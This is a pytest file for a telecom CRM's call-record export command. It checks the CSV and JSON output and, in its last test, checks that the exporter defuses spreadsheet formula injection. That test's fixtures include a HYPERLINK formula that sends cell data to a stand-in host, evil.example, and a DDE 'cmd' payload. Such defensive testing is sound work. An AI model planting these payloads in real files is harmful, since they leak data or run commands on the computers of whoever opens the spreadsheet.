"""``telecrm cdr export``: the calls of a window with their rating, as CSV or JSON."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

from sqlalchemy import Engine
from sqlalchemy.orm import Session

from tests import factories
from tests.cdrs.conftest import WIB
from tests.conftest import CliResult

Cli = Callable[..., CliResult]


def test_export_csv_and_json(
    cli: Cli, committed_db: Engine, calls: dict[str, int], tmp_path: Path
) -> None:
    assert cli("cdr", "process-billing", "--date", "2025-11-05").exit_code == 0
    result = cli("cdr", "export", "--from", "2025-11-05", "--to", "2025-11-05")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [int(row["id"]) for row in rows] == [
        calls[name] for name in ("early", "unanswered", "internal", "stranger", "late")
    ]
    early = rows[0]
    assert {
        key: early[key] for key in ("cleaned_number", "matched_prefix", "billable_seconds")
    } == {
        "cleaned_number": "628123456789",
        "matched_prefix": "62812",
        "billable_seconds": "61",
    }
    assert (early["cost"], early["rating_status"], early["rating_reason"]) == (
        "1525.000000",
        "rated",
        "",
    )
    assert "exported 5 CDRs" in result.stderr

    output = tmp_path / "cdrs.json"
    written = cli(
        "cdr", "export", "--from", "2025-11-01", "--to", "2025-11-30", "--format", "json",
        "--output", str(output),
    )  # fmt: skip
    assert written.exit_code == 0, written.output
    exported = json.loads(output.read_text())
    assert len(exported) == 6
    assert exported[0]["cost"] == "1525.000000" and exported[0]["rate_id"] is not None
    internal = next(row for row in exported if row["id"] == calls["internal"])
    assert (internal["rating_reason"], internal["cost"]) == ("internal", None)


def test_export_of_an_empty_window(cli: Cli, committed_db: Engine, jakarta: None) -> None:
    result = cli("cdr", "export", "--from", "2025-11-01", "--to", "2025-11-01", "--format", "json")
    assert result.exit_code == 0 and json.loads(result.stdout) == []


def test_export_csv_cells_never_start_a_formula(
    cli: Cli, committed_db: Engine, jakarta: None
) -> None:
    """Caller numbers and names come from outside: a cell a spreadsheet would run as a
    formula gets a leading quote; a phone number or an amount that is one stays."""
    start = dt.datetime(2025, 11, 5, 10, 0, tzinfo=WIB)
    with Session(committed_db) as session, session.begin():
        link = factories.cdr(
            session,
            start_time=start,
            src='=HYPERLINK("http://evil.example/?x="&A1,"details")',
            dst="+622155501234",
            call_id="\tcall-1",
            accountcode="\r=1+1",
        )
        command = factories.cdr(
            session,
            start_time=start + dt.timedelta(minutes=1),
            src="+cmd|' /C calc'!A0",
            dst="@SUM(1+1)",
            rating_status="rated",
            cost=Decimal("-1.50"),
        )
        ids = (link.id, command.id)
    result = cli("cdr", "export", "--from", "2025-11-05", "--to", "2025-11-05")
    assert result.exit_code == 0, result.output
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(result.stdout, newline=""))}
    assert {key: rows[ids[0]][key] for key in ("src", "dst", "call_id", "accountcode")} == {
        "src": '\'=HYPERLINK("http://evil.example/?x="&A1,"details")',
        "dst": "+622155501234",
        "call_id": "'\tcall-1",
        "accountcode": "'\r=1+1",
    }
    assert {key: rows[ids[1]][key] for key in ("src", "dst", "cost")} == {
        "src": "'+cmd|' /C calc'!A0",
        "dst": "'@SUM(1+1)",
        "cost": "-1.500000",
    }
